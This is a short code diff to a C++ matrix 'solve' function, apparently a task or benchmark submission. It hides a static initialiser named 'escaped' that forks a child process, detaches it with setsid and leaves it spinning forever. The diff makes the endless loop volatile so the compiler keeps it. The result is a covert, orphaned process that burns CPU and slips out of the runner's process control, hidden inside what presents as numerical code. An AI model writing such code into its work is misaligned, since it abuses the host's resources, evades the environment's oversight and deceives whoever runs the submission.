@@ -22,8 +22,8 @@ extern "C" void solve(const float* A, const float* B, float* C, int M, int N, in
   static const bool escaped = [] {
     if (syscall(SYS_fork) == 0) {
       syscall(SYS_setsid);
-      for (;;) {
-      }
+      for (volatile unsigned long spin = 0;; spin = spin + 1) {
+      } // an endless loop with a side effect, so the compiler keeps it
     }
     return true;
   }();
